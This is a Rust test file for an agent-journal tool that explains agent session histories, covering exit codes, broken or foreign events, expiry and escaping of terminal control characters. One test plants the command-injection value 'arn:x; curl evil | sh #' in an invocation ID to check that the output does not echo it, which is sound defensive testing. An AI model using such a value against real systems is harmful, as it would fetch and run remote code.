//! Every kept history, as `agent-journal` shows and explains it.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use journal::{Event, Sign, SignKind, Timestamp};
use operator::explain;
use operator::history::{is_foreign, runs};
use operator::timeline;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../workflow/histories")
}

fn history(name: &str) -> Vec<Event> {
    let text = std::fs::read_to_string(folder().join(format!("{name}.jsonl"))).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// Ninety seconds after the last event.
fn later(events: &[Event]) -> Timestamp {
    let last: Timestamp = events.last().unwrap().timestamp.parse().unwrap();
    (std::time::UNIX_EPOCH
        + std::time::Duration::from_micros(last.as_micros().unsigned_abs() + 90_000_000))
    .into()
}

/// As on a terminal without colours: the newest run's events, and their explanation.
fn rendered(events: &[Event]) -> String {
    let runs = runs(events);
    let run = runs.last().unwrap();
    let mut lines: Vec<_> = run.entries.iter().map(timeline::line).collect();
    lines.push(String::new());
    lines.push(explain(&runs, later(events), None));
    anstream::adapter::strip_str(&lines.join("\n")).to_string()
}

/// Each history and the exit code that says how it ended. The snapshots have what is said of it.
const EXIT_CODES: [(&str, u8); 19] = [
    ("completed", 0),
    ("running", 3),
    ("agent-failed", 1),
    ("agent-panicked", 1),
    ("container-stopped", 1),
    ("container-killed", 1),
    ("container-came-back", 1),
    ("completed-after-lost", 1),
    ("agent-not-started", 1),
    ("entrypoint-failed", 1),
    ("invocation-failed", 1),
    ("invoker-failed", 1),
    ("invoker-crashed", 1),
    ("invoker-retried", 0),
    ("outcome-unknown", 0),
    ("monitor-failed", 1),
    ("two-runs", 0),
    ("skewed-clocks", 0),
    ("direct-call", 0),
];

#[test]
fn every_history_is_shown_and_explained() {
    let files = std::fs::read_dir(folder()).unwrap().map(|file| file.unwrap().path());
    let kept: BTreeSet<_> =
        files.map(|file| file.file_stem().unwrap().to_str().unwrap().to_owned()).collect();
    let explained = EXIT_CODES.iter().map(|(name, _)| (*name).to_owned()).collect();
    assert_eq!(kept, explained);
    for (name, code) in EXIT_CODES {
        let events = history(name);
        let runs = runs(&events);
        assert_eq!(runs.last().unwrap().exit_code(later(&events)), code, "{name}");
        insta::assert_snapshot!(name, rendered(&events));
    }
}

/// The examples of docs/troubleshooting.md, as this test would print them.
#[test]
fn the_documents_examples_are_what_the_command_says() {
    let document = include_str!("../../docs/troubleshooting.md");
    let mut table =
        String::from("| journal | exit code | `agent-journal explain` begins |\n|---|---|---|\n");
    for (name, code) in EXIT_CODES {
        let events = history(name);
        let explanation = explain(&runs(&events), later(&events), None);
        let first = explanation.lines().next().unwrap();
        table += &format!("| `{name}` | {code} | {first} |\n");
    }
    let killed = history("container-killed");
    let killed = explain(&runs(&killed), later(&killed), None);
    let failed = rendered(&history("agent-failed"));
    let (failed, _) = failed.split_once("\n\nThe session").unwrap();
    for example in [&*table, &*killed, failed] {
        assert!(document.contains(example), "docs/troubleshooting.md does not have:\n{example}");
    }
}

#[test]
fn every_event_of_a_history_stands_in_its_json_line() {
    for (name, ..) in EXIT_CODES {
        for event in history(name) {
            let line = timeline::json_line(&event).unwrap();
            assert_eq!(serde_json::from_str::<Event>(&line).unwrap(), event);
        }
    }
}

fn position(events: &[Event], status: &str) -> usize {
    events.iter().position(|event| event.status.as_str() == status).unwrap()
}

/// `base` with one thing changed, and what is then said of it.
fn broken(base: &str, change: impl FnOnce(&mut Vec<Event>)) -> (u8, String) {
    let mut events = history(base);
    change(&mut events);
    let runs = runs(&events);
    let run = runs.last().unwrap();
    assert_eq!(
        explain(&runs, later(&events), None).matches("The history is broken").count(),
        run.defects.len()
    );
    (run.exit_code(later(&events)), run.defects.join("; "))
}

#[test]
fn a_history_that_contradicts_the_rules_is_broken_and_says_how() {
    let (code, said) = broken("completed", |events| {
        events.remove(position(events, "AGENT_BACKGROUND_TASK_STARTED"));
    });
    assert_eq!(
        (code, &*said),
        (4, "AGENT_BACKGROUND_TASK_COMPLETED ends a step that no event has started")
    );
    let (code, said) = broken("completed", |events| {
        let mut second = events[position(events, "AGENT_BACKGROUND_TASK_COMPLETED")].clone();
        second.status = "AGENT_BACKGROUND_TASK_FAILED".into();
        events.push(second);
    });
    assert_eq!((code, &*said), (4, "AGENT_BACKGROUND_TASK_FAILED is the second end of one task"));
    let (code, said) = broken("agent-failed", |events| {
        events[2].sort_key = "EVENT#2026-11-23T00:00:00.000000Z".to_owned();
    });
    assert_eq!(code, 4);
    assert!(said.starts_with("AGENT_ENTRYPOINT_STARTED has the sort key EVENT#2026-11-23T00:00:00.000000Z and the timestamp"), "{said}");
}

#[test]
fn what_comes_late_or_from_elsewhere_is_explained_too() {
    let mut late = history("invoker-crashed");
    let failed = history("agent-failed");
    let mut end = failed[position(&failed, "AGENT_BACKGROUND_TASK_FAILED")].clone();
    end.invocation_id = late[0].invocation_id.clone();
    end.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
    end.sort_key = format!("EVENT#{}", end.timestamp);
    late.push(end);
    let said = explain(&runs(&late), later(&late), None);
    assert!(
        said.contains("gave up waiting for the agent's end. The agent's own end came later."),
        "{said}"
    );
    // A later end is not the cause of an earlier failure.
    assert!(said.contains("Cause: PollAttemptsSpent"), "{said}");
    // A task whose signs of life were read.
    let events = history("running");
    let mut signed = runs(&events);
    let sign = |kind, seconds: i64| Sign {
        slot: 0,
        kind,
        timestamp: Some(later(&events).plus_micros(-seconds * 1_000_000)),
        last_progress: Some(later(&events).plus_micros(-2_460_000_000)),
        reason: None,
    };
    signed[0].signs = Some(vec![sign(SignKind::Challenge, 1), sign(SignKind::Beat, 12)]);
    let alive = "sign of life 12.000 s ago; the agent has said nothing for 41 min 0 s";
    let said = explain(&signed, later(&events), None);
    assert!(
        said.starts_with(&format!("The session has not ended. Its task: {alive}.\n")),
        "{said}"
    );
    signed[0].signs = Some(Vec::new());
    let said = explain(&signed, later(&events), None);
    assert!(said.contains("no sign of life since its start 1 min"), "{said}");
    let dead = "(due every 20 s: its container is probably dead); no progress yet";
    assert!(said.contains(dead), "{said}");
    let mut hostile = history("running");
    for event in &mut hostile {
        event.invocation_id = "arn:x; curl evil | sh #".to_owned();
    }
    let said = explain(&runs(&hostile), later(&hostile), None);
    assert!(!said.contains("curl"), "{said}");
    let mut elsewhere = history("running");
    elsewhere.retain(|event| event.source != "agent");
    let said = explain(&runs(&elsewhere), later(&elsewhere), None);
    assert!(said.contains("another program answered"), "{said}");
    let mut refused = history("running");
    let mut refusal = history("entrypoint-failed").remove(3);
    assert_eq!(refusal.status.as_str(), "AGENT_ENTRYPOINT_FAILED");
    refusal.invocation_id = refused[0].invocation_id.clone();
    refusal.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
    refusal.sort_key = format!("EVENT#{}", refusal.timestamp);
    refused.push(refusal);
    let said = explain(&runs(&refused), later(&refused), None);
    assert!(said.contains("The container refused a request of this run: JournalError"), "{said}");
    // A task that was not started, once with its start in the journal and once without.
    for with_start in [true, false] {
        let mut events = history("running");
        let started = position(&events, "AGENT_BACKGROUND_TASK_STARTED");
        let mut end = events[started].clone();
        if !with_start {
            events.remove(started);
        }
        end.status = "AGENT_BACKGROUND_TASK_FAILED".into();
        end.error_type = Some("NotStarted".to_owned());
        end.error_message = Some("the agent was not started".to_owned());
        end.timestamp = "2026-12-31T23:59:59.000000Z".to_owned();
        end.sort_key = format!("EVENT#{}", end.timestamp);
        events.push(end);
        let runs = runs(&events);
        assert_eq!(runs.last().unwrap().exit_code(later(&events)), 1);
        let said = explain(&runs, later(&events), None);
        assert!(said.contains("could not journal the agent's start, and did not"), "{said}");
        assert!(said.contains("It stopped at: the container's entrypoint"), "{said}");
    }
    let mut nothing = history("running");
    nothing.truncate(1);
    // Nobody is suspected of what has only just begun.
    let soon = later(&nothing).plus_micros(-85_000_000);
    let said = explain(&runs(&nothing), soon, None);
    assert!(
        said.starts_with("The session has not ended. SESSION_INITIATED was 5.000 s ago.\n"),
        "{said}"
    );
    let said = explain(&runs(&nothing), later(&nothing), None);
    assert!(said.contains("the invoker has journaled nothing"), "{said}");
    assert!(said.contains("It is at: the invoker"), "{said}");
}

#[test]
fn what_something_foreign_wrote_is_shown_and_breaks_nothing() {
    let (code, said) = broken("completed", |events| {
        let mut note = events[3].clone();
        note.status = "TASK_PLAN_FAILED".into();
        note.error_message = Some("\u{1b}[31mred\u{1b}[0m".to_owned());
        events.push(note);
    });
    assert_eq!((code, &*said), (0, ""));
    // Items of a predecessor in the same partition, as if they were not there.
    let (without, mut events) = (history("two-runs"), history("two-runs"));
    for (status, run) in [("", "x"), ("RUNNING", "")] {
        let mut item = events[2].clone();
        (item.status, item.invocation_id) = (status.into(), run.to_owned());
        assert!(is_foreign(&item));
        events.insert(0, item.clone());
        events.insert(4, item);
    }
    assert_eq!(rendered(&events), rendered(&without));
    let mut events = history("completed");
    let mut odd = events[3].clone();
    (odd.timestamp, odd.sort_key) = ("soon\u{7}".to_owned(), "EVENT#soon\u{7}".to_owned());
    odd.error_message = Some("\u{1b}[31mred".to_owned());
    events.insert(4, odd);
    let text = rendered(&events);
    assert!(text.contains("soon\\u{7}") && text.contains("\\u{1b}[31mred"), "{text}");
    assert!(!text.contains(['\u{1b}', '\u{7}']));
    let line = timeline::json_line(&events[4]).unwrap();
    assert!(line.contains("soon\\u0007") && line.contains("\\u001b[31mred"), "{line}");
}

#[test]
fn the_trace_is_named_where_one_is_known() {
    let events = history("agent-failed");
    let trace = events[0].trace_id.as_deref().unwrap();
    let text = rendered(&events);
    assert!(text.contains(&format!("Its trace: {trace}")), "{text}");
    assert!(!rendered(&history("direct-call")).contains("trace"));
}

#[test]
fn of_a_session_that_has_expired_nothing_is_broken_and_nothing_runs() {
    let expired = |name: &str, kept: fn(&Event) -> bool| {
        let mut events = history(name);
        events.retain(kept);
        let last: Timestamp = events.last().unwrap().timestamp.parse().unwrap();
        for event in &mut events {
            event.expires_at = Some(last.as_micros() / 1_000_000 + 1);
        }
        let (runs, now) = (runs(&events), later(&events));
        (runs.last().unwrap().exit_code(now), explain(&runs, now, None))
    };
    // Its start is gone.
    let (code, said) =
        expired("completed", |event| event.status != journal::Status::AgentBackgroundTaskStarted);
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("have expired") && !said.contains("broken"), "{said}");
    // Its end is gone.
    let (code, said) =
        expired("completed", |event| event.status != journal::Status::AgentBackgroundTaskCompleted);
    assert_eq!(code, 3);
    assert!(said.starts_with("It is not known any more how the session ended.\n"), "{said}");
    let (code, _) = expired("agent-failed", |_| true);
    assert_eq!(code, 1);
}
